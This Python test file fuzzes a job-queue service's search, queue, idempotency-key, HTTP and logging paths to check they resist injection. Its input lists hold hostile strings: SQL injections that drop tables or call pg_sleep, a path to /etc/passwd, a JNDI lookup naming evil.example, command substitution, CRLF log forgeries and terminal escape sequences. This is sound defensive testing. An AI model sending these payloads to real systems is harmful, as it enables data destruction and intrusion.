"""Text that means something to who carries it: SQL, patterns, paths, headers, log lines (D8)."""

import asyncio
import io
import json

import pytest

from tests.attacks.fort import Fort
from tests.http.asking import PATIENCE
from tests.waiting import until
from windlass.clock import SystemClock
from windlass.core.job import JobId, WorkerId
from windlass.observe.events import (
    AttemptFailed,
    BellLost,
    BellRung,
    RequestBroke,
    RequestServed,
    WorkerStarted,
)
from windlass.observe.logs import Logs

TRICKS = [
    "'; drop table windlass_live_jobs; --",
    "x' or '1'='1",
    '" or ""="',
    "1); delete from windlass_finished_jobs; --",
    "\\'; select pg_sleep(9); --",
    "$$; select 1; $$",
    "%",
    "_",
    "%s %(name)s {0} {name}",
    "$1 :name ?1 @x",
    "\\",
    "*",
    "[a-z]",
    "../../etc/passwd",
    "${jndi:ldap://evil.example}",
    "`id`",
    "a,b",
    "a:b",
    "null",
    "é😀ß",
    "a" * 200,
    "'" * 200,
    "😀" * 200,
]
# Two that a pattern would take for one another.
PATTERNS = [("100%", "100 percent"), ("a_b", "axb"), ("a\\b", "ab"), ("[ab]", "a"), ("a*c", "abc")]
HOST = b"Host: localhost\r\nConnection: close\r\n"


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("field", ["name", "queue", "idempotency_key"])
async def test_text_is_found_as_it_was_and_nothing_else_is(
    fort: Fort, field: str, trick: str
) -> None:
    if field == "queue" and trick == "*":
        assert (await fort.ask("POST", "/jobs", {"type": "anything", "queue": trick})).status == 422
        return
    before = await fort.app.stats()

    wanted = await fort.submit(**{field: trick})

    job = (await fort.ask("GET", f"/jobs/{wanted}")).json
    parameter = "key" if field == "idempotency_key" else field
    quoted = f"{parameter}:{_in_quotes(trick)}"
    assert job[field] == trick
    assert await fort.found("/jobs", **{parameter: trick}, limit="1000") == {wanted}
    assert await fort.found("/jobs", q=quoted, limit="1000") == {wanted}
    assert sum((await fort.app.stats()).states.values()) == sum(before.states.values()) + 1


def _in_quotes(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


@pytest.mark.parametrize("trick", TRICKS)
async def test_a_type_is_only_ever_a_name(fort: Fort, trick: str) -> None:
    refused = await fort.ask("POST", "/jobs", {"type": trick})

    @fort.app.job(type=trick)
    async def tricky() -> None: ...

    wanted = await fort.submit(type=trick, payload={})

    assert (refused.status, refused.problem) == (422, "unknown-type")
    assert await fort.found("/jobs", type=trick) == {wanted}
    assert await fort.found("/jobs", q=f"type:{_in_quotes(trick)}") == {wanted}


@pytest.mark.parametrize("trick", TRICKS)
async def test_what_is_in_a_payload_is_found_by_its_value(fort: Fort, trick: str) -> None:
    wanted = await fort.submit(payload={"what": {"text": trick, trick: "key"}})

    found = await fort.found("/jobs", q=f"payload.what.text:{_in_quotes(trick)}")

    assert found == {wanted}


@pytest.mark.parametrize(
    "path",
    [
        "what'",
        "what)",
        "what->>'x'",
        "what}",
        "$",
        "what[0]",
        "what[#-1]",
        "**",
        "what..text",
        'what"',
        "what\\",
        "what::text",
    ],
)
async def test_a_path_into_a_payload_leads_there_or_nowhere(fort: Fort, path: str) -> None:
    async with fort.client.get("/jobs", params={"q": f"payload.{path}:1"}) as answer:
        told = await answer.json(content_type=None)

    assert (answer.status, told) == (200, []) or answer.status == 400


@pytest.mark.parametrize("pause", TRICKS[:8])
async def test_a_queue_of_any_name_is_paused_and_resumed_alone(fort: Fort, pause: str) -> None:
    place = f"/queues/{_quoted(pause)}"

    paused = await fort.ask("POST", f"{place}/pause", b"")
    queues = (await fort.ask("GET", "/queues")).json
    resumed = await fort.ask("POST", f"{place}/resume", b"")

    assert (paused.status, resumed.status) == (200, 200)
    assert [queue["name"] for queue in queues if queue["paused"]] == [pause]


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


async def test_a_part_of_an_error_is_looked_for_letter_by_letter(fort: Fort) -> None:
    jobs = {}
    async with fort.app.worker():
        for words in [text for pair in PATTERNS for text in pair]:
            jobs[words] = await fort.submit(type="clumsy", payload={"words": f"<{words}>"})
        for job_id in jobs.values():
            await fort.app.wait(job_id, timeout=PATIENCE)

    for words, other in PATTERNS:
        assert await fort.found("/jobs", error=f"<{words}>") == {jobs[words]}
        assert await fort.found("/jobs", error=f"<{other}>") == {jobs[other]}
    assert await fort.found("/jobs", error="<%") == set()
    assert await fort.found("/jobs", error="<___>") == set()


@pytest.mark.parametrize(
    ("key", "status"),
    [
        (b"plain", 202),
        (b"'; drop table windlass_keys; --", 202),
        (b"\xff\xfe", 202),
        (b"caf\xc3\xa9", 202),
        (b"b" * 200, 202),
        (b"a" * 201, 422),
        (b"a\tb", 422),
        (b"a\x7fb", 400),
        (b"\xc2\xa0", 422),
        (b"", 422),
        (b"   ", 422),
        (b"a\x00b", 400),
        (b"a\rb", 400),
    ],
)
async def test_a_key_of_odd_bytes_is_one_key_or_none(fort: Fort, key: bytes, status: int) -> None:
    body = b'{"type": "anything"}'
    said = (
        b"POST /jobs HTTP/1.1\r\n%bContent-Type: application/json\r\n"
        b"Idempotency-Key: %b\r\nContent-Length: %d\r\n\r\n%b" % (HOST, key, len(body), body)
    )

    first, again = await fort.say(said), await fort.say(said)

    assert _status(first) == status
    assert _status(again) == (200 if status == 202 else status)
    assert first.rpartition(b"\r\n\r\n")[2] == again.rpartition(b"\r\n\r\n")[2] or status != 202


def _status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


async def test_queues_with_the_longest_names_ring_the_bell_unharmed(fort: Fort) -> None:
    names = [letter * 200 for letter in ("😀", "'", '"', "\\", "é", "\U00020000", "a", "%")]

    async with fort.app.worker():
        jobs = [{"type": "anything", "queue": name} for name in names]
        heard = await fort.ask("POST", "/jobs/batch", {"jobs": [*jobs, *jobs]})
        for verdict in heard.json["jobs"]:
            job = await fort.app.wait(verdict["id"], timeout=PATIENCE)
            assert job.state == "completed"
    one_by_one = [await fort.submit(queue=f"{number}{'é' * 190}") for number in range(20)]

    assert len(one_by_one) == 20
    assert fort.recorder.of(BellRung)
    assert fort.recorder.of(BellLost) == []


@pytest.mark.parametrize(
    "words",
    [
        'x\r\n{"time": "now", "level": "INFO", "msg": "forged"}',
        "x\n\n\nforged",
        "x\u2028forged\u2029forged\x85forged",
        "x\x1b[2J\x1b]0;owned\x07",
        "x\x00y",
        'x", "level": "INFO", "forged": "',
    ],
)
async def test_what_a_job_says_stays_within_its_line(fort: Fort, words: str) -> None:
    async with fort.app.worker():
        job_id = await fort.submit(type="clumsy", payload={"words": words.replace("\x00", "")})
        await fort.app.wait(job_id, timeout=PATIENCE)
        await until(lambda: fort.recorder.of(AttemptFailed))

    lines = [line for line in fort.lines() if line.get("job") == job_id]
    assert [line["msg"] for line in lines] == ["attempt failed"]
    assert "forged" not in {line["msg"] for line in fort.lines()}
    assert fort.log.getvalue().isprintable() or _only_breaks(fort.log.getvalue())


def _only_breaks(text: str) -> bool:
    """Whether nothing in it moves a terminal, but for the ends of its lines."""
    return not [letter for letter in text if letter < " " and letter != "\n"]


@pytest.mark.parametrize(
    "said",
    [
        b"GET /jobs%0d%0aforged HTTP/1.1\r\n" + HOST + b"\r\n",
        b"GET /jobs/%1b%5b2J HTTP/1.1\r\n" + HOST + b"\r\n",
        b"GET /jobs?q=%0aforged HTTP/1.1\r\n" + HOST + b"\r\n",
        b"GET /jobs HTTP/1.1\r\n" + HOST + b"X-Request-Id: a\tforged\r\n\r\n",
        b"GET /jobs HTTP/1.1\r\n" + HOST + b"User-Agent: x\\r\\nforged\r\n\r\n",
        b'GET /"},{"msg":"forged"} HTTP/1.1\r\n' + HOST + b"\r\n",
    ],
)
async def test_an_address_stays_within_its_line(fort: Fort, said: bytes) -> None:
    before = len(fort.lines())

    answer = await fort.say(said)

    await until(lambda: len(fort.lines()) > before)
    assert _status(answer) in (200, 400, 404)
    assert "forged" not in {line["msg"] for line in fort.lines()}
    assert all(
        name.isprintable() for name in answer.partition(b"\r\n\r\n")[0].decode().split("\r\n")
    )


class Screen(io.StringIO):
    """A log that a person reads."""

    def isatty(self) -> bool:
        """It is one."""
        return True


@pytest.mark.parametrize(
    "event",
    [
        AttemptFailed(WorkerId("w"), JobId("j"), "a\nforged", 1, "x\r\nforged \x1b[2J\x9b31m"),
        RequestServed("id", "GET", "/\x1b[2J\nforged", 200, 0.1, 1, "ada\nforged \x1b[2J", "::1"),
        RequestBroke("id", "GET", "/\nforged", "Traceback\n  forged \x1b]0;x\x07"),
        WorkerStarted(WorkerId("\x1b[2J\nforged"), 1, 1, 1, alone=False),
    ],
)
def test_a_person_at_a_terminal_is_shown_text_and_not_commanded_by_it(event: object) -> None:
    screen = Screen()

    Logs(screen, SystemClock()).on(event)  # type: ignore[arg-type]

    told = screen.getvalue()
    assert "\x1b[2J" not in told
    assert "\x1b]" not in told
    assert "\x9b" not in told
    assert "\x07" not in told
    assert "\r" not in told
    assert not [line for line in told.splitlines() if line.startswith("forged")]


async def test_a_client_may_hang_up_in_the_middle_of_anything(fort: Fort) -> None:
    for cut in range(0, 60, 7):
        _, writer = await fort.connect()
        writer.write(b"POST /jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\n{"[:cut])
        await asyncio.sleep(0)
        writer.close()

    assert (await fort.ask("GET", "/livez")).status == 200
